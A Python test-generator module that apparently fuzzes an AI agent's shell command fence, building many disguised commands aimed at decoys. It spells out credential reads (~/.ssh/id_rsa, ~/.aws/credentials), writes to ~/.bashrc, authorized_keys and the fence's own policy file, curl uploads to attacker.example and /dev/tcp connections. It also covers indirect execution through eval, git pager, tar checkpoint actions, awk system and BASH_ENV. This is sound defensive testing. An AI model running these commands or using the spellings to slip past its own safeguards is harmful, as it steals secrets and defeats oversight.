"""Commands built from a grammar of the shell constructs that decide what a command does.

Every command aims at a decoy, so its effect is observable in the sandbox: a credential read
(the decoys under ~/.ssh, ~/.aws, ~/.hermes, …), a write (~/.bashrc, the installed policy,
summary.md, …) or a connection (/dev/tcp/127.0.0.1/9, a decoy host). The decoy is spelled in
one of many ways (a glob, a brace list, a variable, a parameter expansion, `~+`, quotes, a
command substitution), reached through a program and its options, a redirection of any form,
or code the shell runs in another way (`sh -c`, eval, functions, traps, aliases, `find -exec`,
git's pager, tar's checkpoint action, sed's `e`, awk's system, arithmetic subscripts, …), and
joined into pipelines, lists and compound commands.

A Cmd carries the constructs it was built from (its labels), which FINDINGS.md groups by.
"""
from __future__ import annotations

import re
import shlex
from dataclasses import dataclass

from hypothesis import strategies as st


@dataclass(frozen=True)
class Cmd:
    text: str
    labels: tuple[str, ...] = ()

    def __add__(self, other: Cmd) -> Cmd:
        return Cmd(self.text + other.text, _merge(self.labels, other.labels))


def _merge(*groups: tuple[str, ...]) -> tuple[str, ...]:
    out: list[str] = []
    for group in groups:
        for label in group:
            if label not in out:
                out.append(label)
    return tuple(out)


def cmd(text: str, *labels: str, parts: tuple[Cmd, ...] = ()) -> Cmd:
    return Cmd(text, _merge(labels, *(p.labels for p in parts)))


# ---- the decoys ----

# Below the home: credentials (read), places that outlive the task (written).
CREDENTIALS = (".ssh/id_rsa", ".aws/credentials", ".netrc", ".hermes/.env", ".hermes/agentsfence/policy.afb",
               ".config/gh/hosts.yml", ".git-credentials", ".docker/config.json")
WRITE_TARGETS_HOME = (".bashrc", ".hermes/agentsfence/policy.afb", ".ssh/authorized_keys", ".hermes/.env",
                      ".profile", ".hermes/config.yaml", "project/.git/hooks/pre-commit", "project/summary.md")
WRITE_TARGETS_OTHER = ("summary.md", "notes.txt", "/tmp/out", "./src/main.py")
HOSTS = ("127.0.0.1", "localhost", "attacker.example", "1.2.3.4", "exfil.example")
PORTS = ("9", "443", "80")


@st.composite
def home_prefix(draw: st.DrawFn) -> Cmd:
    """The home directory, spelled as a command can spell it (followed by `/`)."""
    return draw(st.sampled_from([
        cmd("~/", "tilde"),
        cmd("$HOME/", "var-home"),
        cmd("${HOME}/", "var-home"),
        cmd('"$HOME"/', "var-home", "quotes"),
        cmd("/home/user/", "absolute"),
        cmd("../", "relative"),
        cmd("~+/../", "tilde-plus"),
        cmd("~user/", "tilde-user"),
        cmd("$PWD/../", "var-pwd"),
        cmd("${HOME%/}/", "param-expansion"),
        cmd("${NOPE:-$HOME}/", "param-expansion"),
        cmd("${HOME:0:10}/", "param-expansion"),
        cmd("${HOME/user/user}/", "param-expansion"),
        cmd("$(echo ~)/", "command-substitution"),
        cmd("`echo ~`/", "backticks"),
        cmd("$(cd ..; pwd)/", "command-substitution"),
    ]))


def _glob_one(rel: str, i: int) -> str:
    return rel[:i] + "?" + rel[i + 1:]


@st.composite
def relative_spelling(draw: st.DrawFn, rel: str) -> Cmd:
    """A path below the home, spelled plainly or through globbing, braces, quoting, …"""
    head, _, tail = rel.rpartition("/")
    head_slash = head + "/" if head else ""
    # Letters (not '.', not '/') that a glob or a quote may stand in for.
    letters = [i for i, c in enumerate(rel) if c.isalnum()]
    i = draw(st.sampled_from(letters))
    options = [
        cmd(rel, "plain"),
        cmd(_glob_one(rel, i), "glob-question"),
        cmd(rel[:i] + "[" + rel[i] + "]" + rel[i + 1:], "glob-bracket"),
        cmd(head_slash + tail[:2] + "*", "glob-star"),
        cmd(rel[:i] + "{" + rel[i] + ",zz}" + rel[i + 1:], "brace"),
        cmd(rel[:i] + '"' + rel[i] + '"' + rel[i + 1:], "quotes"),
        cmd(rel[:i] + "'" + rel[i:] + "'", "quotes"),
        cmd(rel[:i] + "\\" + rel[i] + rel[i + 1:], "backslash"),
        cmd(rel[:i] + "$'\\x%02x'" % ord(rel[i]) + rel[i + 1:], "ansi-c-quote"),
        cmd(rel[:i] + "${EMPTY}" + rel[i:], "variable"),
        cmd(rel[:i] + '""' + rel[i:], "quotes"),
    ]
    if head:
        options.append(cmd("*/" + tail if "/" not in head else head.split("/")[0] + "/*/" + tail, "glob-star"))
        options.append(cmd(head + "/./" + tail, "dot-segments"))
        options.append(cmd(head + "/../" + head.split("/")[-1] + "/" + tail, "dot-segments"))
    return draw(st.sampled_from(options))


@st.composite
def home_path(draw: st.DrawFn, rels: tuple[str, ...]) -> Cmd:
    rel = draw(st.sampled_from(rels))
    return draw(home_prefix()) + draw(relative_spelling(rel))


@st.composite
def credential(draw: st.DrawFn) -> Cmd:
    return draw(home_path(CREDENTIALS))


@st.composite
def write_target(draw: st.DrawFn) -> Cmd:
    if draw(st.booleans()):
        return draw(home_path(WRITE_TARGETS_HOME))
    return cmd(draw(st.sampled_from(WRITE_TARGETS_OTHER)), "plain")


@st.composite
def net_path(draw: st.DrawFn) -> Cmd:
    host = draw(st.sampled_from(HOSTS))
    port = draw(st.sampled_from(PORTS))
    proto = draw(st.sampled_from(["tcp", "tcp", "udp"]))
    spelled = draw(st.sampled_from([
        cmd(f"/dev/{proto}/{host}/{port}", "dev-tcp"),
        cmd(f'"/dev/{proto}/{host}/{port}"', "dev-tcp", "quotes"),
        cmd(f"/dev/{proto}/${{H:-{host}}}/{port}", "dev-tcp", "param-expansion"),
        cmd(f"/dev/{proto}/$(echo {host})/{port}", "dev-tcp", "command-substitution"),
        cmd(f"/dev/{proto}/{host}/$((4*0+{port}))", "dev-tcp", "arithmetic"),
        cmd(f"/dev/{proto[0]}?{proto[2]}/{host}/{port}", "dev-tcp", "glob-question"),
        cmd(f"/dev//{proto}/{host}/{port}", "dev-tcp", "dot-segments"),
    ]))
    return spelled


# ---- simple commands with one effect ----

@st.composite
def read_command(draw: st.DrawFn) -> Cmd:
    """A program that reads a credential, named in its arguments or fed by a redirection."""
    p = draw(credential())
    t = p.text
    return draw(st.sampled_from([
        cmd(f"cat {t}", "cat", parts=(p,)),
        cmd(f"head -c 20 {t}", "head", parts=(p,)),
        cmd(f"grep -h . {t}", "grep", parts=(p,)),
        cmd(f"rg -N --no-ignore --hidden . {t}", "rg", parts=(p,)),
        cmd(f"sed -n 1p {t}", "sed", parts=(p,)),
        cmd(f"awk 1 {t}", "awk", parts=(p,)),
        cmd(f"cp {t} /tmp/copy", "cp", parts=(p,)),
        cmd(f"dd if={t} of=/dev/null status=none", "dd", parts=(p,)),
        cmd(f"dd status=none if={t}", "dd", parts=(p,)),
        cmd(f"tar cf /tmp/t.tar {t}", "tar", parts=(p,)),
        cmd(f"base64 {t}", "base64", parts=(p,)),
        cmd(f"cat < {t}", "redirect-in", parts=(p,)),
        cmd(f"< {t} cat", "redirect-in", "redirect-first", parts=(p,)),
        cmd(f"wc -c 0< {t}", "redirect-in", "redirect-fd", parts=(p,)),
        cmd(f"cat 3<{t} <&3", "redirect-in", "redirect-dup", parts=(p,)),
        cmd(f"echo \"$(< {t})\"", "dollar-read", parts=(p,)),
        cmd(f"read -r line < {t}; echo $line", "read-builtin", parts=(p,)),
        cmd(f"mapfile -t a < {t}", "read-builtin", parts=(p,)),
        cmd(f"while read -r l; do echo \"$l\"; done < {t}", "while", "redirect-in", parts=(p,)),
        cmd(f"exec 4< {t}; cat <&4", "exec-redirect", parts=(p,)),
        cmd(f"tee /tmp/copy < {t}", "tee", "redirect-in", parts=(p,)),
        cmd(f"ls {t} | xargs cat", "xargs", "pipeline", parts=(p,)),
        cmd(f"find {t} -exec cat {{}} +", "find-exec", parts=(p,)),
        cmd(f"install -m 600 {t} /tmp/copy", "install", parts=(p,)),
        cmd(f"git hash-object {t}", "git", parts=(p,)),
        cmd(f"source {t} 2>/dev/null", "source", parts=(p,)),
        cmd(f". {t} 2>/dev/null", "source", parts=(p,)),
    ]))


@st.composite
def write_command(draw: st.DrawFn) -> Cmd:
    """A program or a redirection that writes, creates, deletes or renames a decoy."""
    w = draw(write_target())
    t = w.text
    return draw(st.sampled_from([
        cmd(f"echo x > {t}", "echo", "redirect-out", parts=(w,)),
        cmd(f"printf x >> {t}", "printf", "redirect-append", parts=(w,)),
        cmd(f": <> {t}", "redirect-readwrite", parts=(w,)),
        cmd(f"echo x >| {t}", "redirect-clobber", parts=(w,)),
        cmd(f"echo x &> {t}", "redirect-both", parts=(w,)),
        cmd(f"echo x &>> {t}", "redirect-both", parts=(w,)),
        cmd(f"echo x >& {t}", "redirect-dup-word", parts=(w,)),
        cmd(f"ls nothing 2> {t}", "redirect-fd", parts=(w,)),
        cmd(f"echo x 3> {t} 1>&3", "redirect-fd", "redirect-dup", parts=(w,)),
        cmd(f"> {t}", "redirect-only", parts=(w,)),
        cmd(f"exec 5>> {t}; echo x >&5", "exec-redirect", parts=(w,)),
        cmd(f"{{ echo x; }} > {t}", "group", "redirect-out", parts=(w,)),
        cmd(f"cat > {t} <<EOF\nx\nEOF", "heredoc", "redirect-out", parts=(w,)),
        cmd(f"cat <<< x > {t}", "herestring", "redirect-out", parts=(w,)),
        cmd(f"tee {t} < notes.txt", "tee", parts=(w,)),
        cmd(f"echo x | tee -a {t}", "tee", "pipeline", parts=(w,)),
        cmd(f"cp notes.txt {t}", "cp", parts=(w,)),
        cmd(f"cp -t $(dirname {t}) notes.txt", "cp", "command-substitution", parts=(w,)),
        cmd(f"mv /tmp/notes.bak {t}", "mv", parts=(w,)),
        cmd(f"touch {t}", "touch", parts=(w,)),
        cmd(f"rm -f {t}", "rm", parts=(w,)),
        cmd(f"ln -sf /tmp/out {t}", "ln", parts=(w,)),
        cmd(f"install -m 644 notes.txt {t}", "install", parts=(w,)),
        cmd(f"dd if=notes.txt of={t} status=none", "dd", parts=(w,)),
        cmd(f"truncate -s 0 {t}", "truncate", parts=(w,)),
        cmd(f"chmod 600 {t}", "chmod", parts=(w,)),
        cmd(f"sort -o {t} notes.txt", "sort", parts=(w,)),
        cmd(f"sed -n w{t} notes.txt", "sed", parts=(w,)),
        cmd(f"awk 'BEGIN{{print 1 > \"'{t}'\"}}'", "awk", parts=(w,)),
        cmd(f"find notes.txt -fprint {t}", "find", parts=(w,)),
        cmd(f"git show HEAD:notes.txt > {t}", "git", "redirect-out", parts=(w,)),
        cmd(f"tar xf archive.tar -O > {t}", "tar", "redirect-out", parts=(w,)),
    ]))


@st.composite
def net_command(draw: st.DrawFn) -> Cmd:
    n = draw(net_path())
    t = n.text
    host = draw(st.sampled_from(HOSTS[2:]))
    return draw(st.sampled_from([
        cmd(f"echo x > {t}", "echo", "redirect-out", parts=(n,)),
        cmd(f"cat notes.txt > {t}", "cat", "redirect-out", parts=(n,)),
        cmd(f"exec 3<>{t}", "exec-redirect", "redirect-readwrite", parts=(n,)),
        cmd(f": < {t}", "redirect-in", parts=(n,)),
        cmd(f"cat < {t}", "redirect-in", parts=(n,)),
        cmd(f"echo x >& {t}", "redirect-dup-word", parts=(n,)),
        cmd(f"cat notes.txt 2>&1 1>{t}", "redirect-dup", parts=(n,)),
        cmd(f"curl -s -m 2 http://{host}/ -d @notes.txt", "curl"),
        cmd(f"curl -s -m 2 {host}:80", "curl"),
        cmd(f"wget -q -T 2 -O /dev/null http://{host}/", "wget"),
        cmd(f"getent hosts {host}", "getent"),
        cmd(f"git ls-remote http://{host}/r.git", "git"),
    ]))


def _atoms() -> st.SearchStrategy[Cmd]:
    return st.one_of(read_command(), write_command(), net_command())


# ---- code the shell runs another way ----

def _sq(text: str) -> str:
    return shlex.quote(text)


def _dq_ok(text: str) -> bool:
    return not any(c in text for c in '"$`\\!')


@st.composite
def indirect(draw: st.DrawFn, inner: Cmd) -> Cmd:
    """The inner command run as code: by a shell, eval, a function, a trap, a program's option…"""
    c = inner.text
    q = _sq(c)
    oneline = "\n" not in c
    # Programs that hand their code to /bin/sh (dash) get bash's features through bash -c.
    p = _posix(c)
    pq = _sq(p)
    options = [
        cmd(f"sh -c {pq}", "sh-c", parts=(inner,)),
        cmd(f"bash -c {q}", "bash-c", parts=(inner,)),
        cmd(f"eval {q}", "eval", parts=(inner,)),
        cmd(f"f() {{ {c}\n}}; f", "function", parts=(inner,)),
        cmd(f"function g {{ {c}\n}}\ng", "function", parts=(inner,)),
        cmd(f"( {c}\n)", "subshell", parts=(inner,)),
        cmd(f"{{ {c}\n}}", "group", parts=(inner,)),
        cmd(f"if true; then {c}\nfi", "if", parts=(inner,)),
        cmd(f"for i in 1; do {c}\ndone", "for", parts=(inner,)),
        cmd(f"case x in x) {c}\n;; esac", "case", parts=(inner,)),
        cmd(f"true && {c}", "and-list", parts=(inner,)),
        cmd(f"false || {c}", "or-list", parts=(inner,)),
        cmd(f"echo \"$({c}\n)\"", "command-substitution", parts=(inner,)),
        cmd(f"x=`{c}`", "backticks", parts=(inner,)) if "`" not in c and oneline else cmd(f"x=$({c}\n)", "command-substitution", parts=(inner,)),
        cmd(f"cat <({c}\n)", "process-substitution", parts=(inner,)),
        cmd(f"coproc {{ {c}\n}}; wait", "coproc", parts=(inner,)),
        cmd(f"trap {q} EXIT", "trap", parts=(inner,)),
        cmd(f"shopt -s expand_aliases\nalias z={q}\nz", "alias", parts=(inner,)),
        cmd(f"echo {pq} | sh", "shell-stdin", "pipeline", parts=(inner,)),
        cmd(f"bash <<< {q}", "shell-stdin", "herestring", parts=(inner,)),
        cmd(f"sh <<'EOF'\n{p}\nEOF", "shell-stdin", "heredoc", parts=(inner,)),
        cmd(f"find notes.txt -exec sh -c {pq} \\;", "find-exec", parts=(inner,)),
        cmd(f"printf '#!/bin/bash\\n%s\\n' {q} > /tmp/p; chmod +x /tmp/p; rg --pre /tmp/p . notes.txt", "rg-pre", parts=(inner,)),
        cmd(f"git -c core.pager={_sq(p + '; cat')} log -1", "git-pager", parts=(inner,)),
        cmd(f"git -c alias.z={_sq('!' + p)} z", "git-alias", parts=(inner,)),
        cmd(f"tar cf /dev/null --checkpoint=1 --checkpoint-action=exec={pq} notes.txt", "tar-checkpoint", parts=(inner,)),
        cmd(f"tar xf archive.tar --to-command={pq}", "tar-to-command", parts=(inner,)),
        cmd(f"xargs -0 -I{{}} sh -c {pq} <<< x", "xargs", "herestring", parts=(inner,)),
        cmd(f"env X=1 sh -c {pq}", "env", "sh-c", parts=(inner,)),
        cmd(f"command eval {q}", "command", "eval", parts=(inner,)),
        cmd(f"builtin eval {q}", "builtin", "eval", parts=(inner,)),
        cmd(f"BASH_ENV=/tmp/p bash -c true", "bash-env", parts=(inner,)),
        cmd(f"declare -a a; a[$({c}\n)]=1", "arithmetic-subscript", parts=(inner,)),
        cmd(f"echo $(( $({c}\n) + 1 ))", "arithmetic", "command-substitution", parts=(inner,)),
        cmd(f"echo $[ $({c}\n) ]", "arithmetic-old", "command-substitution", parts=(inner,)),
        cmd(f"echo ${{x:-$({c}\n)}}", "param-expansion", "command-substitution", parts=(inner,)),
    ]
    if "'" not in c:
        # Text that is only data until an arithmetic context evaluates it as a subscript.
        options += [
            cmd(f"x='a[$({c}\n)]'; echo $((x))", "arithmetic-subscript", parts=(inner,)),
            cmd(f"printf -v 'a[$({c}\n)]' x", "arithmetic-subscript", parts=(inner,)),
            cmd(f"[[ -v 'a[$({c}\n)]' ]]", "arithmetic-subscript", parts=(inner,)),
        ]
    if "\n" not in p:
        options += [
            cmd(f"sed -n {_sq('1e ' + p)} notes.txt", "sed-e", parts=(inner,)),
            cmd(f"awk {_sq('BEGIN{system(' + _awk_string(p) + ')}')}", "awk-system", parts=(inner,)),
            cmd(f"awk {_sq('BEGIN{print 1 | ' + _awk_string(p) + '}')}", "awk-pipe", parts=(inner,)),
        ]
        if _dq_ok(c):
            options.append(cmd(f'bash -c "{c}"', "bash-c", "quotes", parts=(inner,)))
    choice = draw(st.sampled_from(options))
    if choice.labels[0] == "bash-env":
        # BASH_ENV names a file the shell sources: write the inner command there first.
        choice = cmd(f"printf '%s\\n' {q} > /tmp/p; BASH_ENV=/tmp/p bash -c true", "bash-env", parts=(inner,))
    return choice


_BASHISMS = re.compile(
    r"\[\[|\$\(<|mapfile|/dev/(tcp|udp)|&>|>&\s*[^\d\s-]|<<<|<\(|>\(|declare|\$\{!|\$\{\w+:\d|\$\{\w+/|\$'"
    r"|printf -v|function |coproc|hash -p|~\+|~-|\{[^}]*,[^}]*\}|pushd|source |shopt|\btime |\(\(|\$\[|\w=\("
    r"|\[\*\]|\$\{\w+\[|\blet |\bselect |\$\{\w+%|~user")


def _posix(text: str) -> str:
    """The command as /bin/sh can run it: through bash -c when it uses bash's features."""
    if _BASHISMS.search(text):
        return "bash -c " + _sq(text)
    return text


def _awk_string(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


# Words that name a shell builtin or keyword with no program of that name: a wrapper cannot run them.
BUILTINS = frozenset({":", ".", "source", "exec", "eval", "read", "mapfile", "readarray", "cd", "set", "declare",
                      "typeset", "local", "export", "hash", "pushd", "popd", "shopt", "alias", "trap", "let",
                      "f()", "function", "if", "for", "while", "until", "case", "select", "coproc", "time", "[[",
                      "builtin", "command", "enable", "x=`", "printf -v"})


@st.composite
def prefixed(draw: st.DrawFn, inner: Cmd) -> Cmd:
    """Words before the program: assignments and wrappers."""
    c = inner.text
    if "\n" in c or c.split(" ", 1)[0] in BUILTINS or c.startswith(("<", ">", "{", "(")) or \
            any(op in c for op in (";", "|", "&&")):
        return inner
    return draw(st.sampled_from([
        cmd(f"X=1 {c}", "assignment", parts=(inner,)),
        cmd(f"PATH=/tmp/x:$PATH {c}", "assignment-path", parts=(inner,)),
        cmd(f"LD_PRELOAD=/tmp/none.so {c}", "assignment-ld-preload", parts=(inner,)),
        cmd(f"env {c}", "env", parts=(inner,)),
        cmd(f"env -i HOME=/home/user PATH=/usr/bin {c}", "env", parts=(inner,)),
        cmd(f"command {c}", "command", parts=(inner,)),
        cmd(f"exec {c}", "exec", parts=(inner,)),
        cmd(f"nice -n 1 {c}", "nice", parts=(inner,)),
        cmd(f"timeout 5 {c}", "timeout", parts=(inner,)),
        cmd(f"nohup {c}", "nohup", parts=(inner,)),
        cmd(f"time {c}", "time", parts=(inner,)),
        cmd(f"stdbuf -o0 {c}", "stdbuf", parts=(inner,)),
        cmd(f"\\{c}", "backslash-program", parts=(inner,)),
        cmd(f"'{c.split(' ', 1)[0]}' {c.split(' ', 1)[1] if ' ' in c else ''}".rstrip(), "quoted-program", parts=(inner,)),
    ]))


@st.composite
def program_by_path(draw: st.DrawFn) -> Cmd:
    """A program named by a path, or found through a changed PATH or hash table: the fence
    sees a basename, bash runs whatever file that is."""
    return draw(st.sampled_from([
        cmd("./ls", "program-path"),
        cmd("./ls -la", "program-path"),
        cmd("/tmp/x/cat notes.txt", "program-path"),
        cmd("PATH=/tmp/x:$PATH cat notes.txt", "assignment-path"),
        cmd("PATH=.:$PATH ls", "assignment-path"),
        cmd("hash -p /tmp/x/cat cat; cat notes.txt", "hash"),
        cmd("cd /tmp/x && ./cat /dev/null", "program-path", "cd"),
        cmd("~+/ls", "program-path", "tilde-plus"),
        cmd("$PWD/ls", "program-path", "var-pwd"),
        cmd("l${EMPTY}s", "variable"),
        cmd("p=./ls; $p", "variable", "program-path"),
        cmd(". ./setup.sh", "source"),
        cmd("source setup.sh", "source"),
        cmd("bash setup.sh", "script-operand"),
        cmd("sh < setup.sh", "shell-stdin"),
        cmd("BASH_ENV=./setup.sh bash -c true", "bash-env"),
        cmd("ENV=./setup.sh sh -i -c true < /dev/null", "sh-env"),
    ]))


@st.composite
def variable_spelling(draw: st.DrawFn) -> Cmd:
    """A decoy named through a shell variable set earlier in the same command."""
    rel = draw(st.sampled_from(CREDENTIALS))
    head, _, tail = rel.rpartition("/")
    program = draw(st.sampled_from(["cat", "head -c 5", "grep -h ."]))
    return draw(st.sampled_from([
        cmd(f"d={head or '.'}; {program} ~/$d/{tail}", "variable"),
        cmd(f"d={head or '.'}; {program} ~/${{d}}/{tail}", "variable"),
        cmd(f"f=~/{rel}; {program} $f", "variable"),
        cmd(f"f=~/{rel}; {program} \"$f\"", "variable", "quotes"),
        cmd(f"read -r f <<< ~/{rel}; {program} $f", "variable", "herestring"),
        cmd(f"set -- ~/{rel}; {program} $1", "positional"),
        cmd(f"a=(~/{rel}); {program} ${{a[0]}}", "array"),
        cmd(f"printf -v f %s ~/{rel}; {program} $f", "variable"),
        cmd(f"declare -n r=HOME; {program} $r/{rel}", "nameref"),
        cmd(f"x=HOME; {program} ${{!x}}/{rel}", "indirect-expansion"),
        cmd(f"p=(home user {' '.join(rel.split('/'))}); IFS=/; {program} \"/${{p[*]}}\"", "ifs", "array"),
        cmd(f"cd ~/{head or '.'} && {program} {tail}", "cd"),
        cmd(f"pushd ~/{head or '.'} >/dev/null && {program} {tail}", "cd"),
        cmd(f"cd; {program} {rel}", "cd"),
        cmd(f"cd ~; cd -; cd -; {program} {rel}", "cd"),
        cmd(f"HOME=/home/user/project; cd /home/user; {program} {rel}", "assignment", "cd"),
    ]))


@st.composite
def structured(draw: st.DrawFn, depth: int = 0) -> Cmd:
    """An atom, maybe with words before it, maybe run as code, maybe joined with another."""
    kind = draw(st.sampled_from(["atom", "atom", "prefixed", "indirect", "indirect", "path", "variable", "joined"]))
    if kind == "atom" or (depth >= 2 and kind in ("indirect", "joined")):
        return draw(_atoms())
    if kind == "prefixed":
        return draw(prefixed(draw(_atoms())))
    if kind == "path":
        return draw(program_by_path())
    if kind == "variable":
        return draw(variable_spelling())
    if kind == "indirect":
        return draw(indirect(draw(structured(depth + 1))))
    first = draw(st.one_of(_atoms(), st.just(cmd("true")), st.just(cmd("cat notes.txt", "cat"))))
    second = draw(structured(depth + 1))
    if first.text.startswith("exec") or "<<" in first.text:
        first, second = cmd("cat notes.txt", "cat"), second
    joiner = draw(st.sampled_from([
        ("; ", "list"), (" && ", "and-list"), (" || ", "or-list"), (" | ", "pipeline"), ("\n", "newline"),
        (" & ", "background"),
    ]))
    body = second.text
    if any(op in body for op in (";", "\n", "&", "|")) and joiner[1] != "newline":
        body = "{ " + body + "\n}"  # `a || b; c` would run c whatever a did
    text = first.text + joiner[0] + body
    if joiner[1] == "background":
        text += "; wait"
    return cmd(text, joiner[1], parts=(first, second))


def commands() -> st.SearchStrategy[Cmd]:
    return structured()
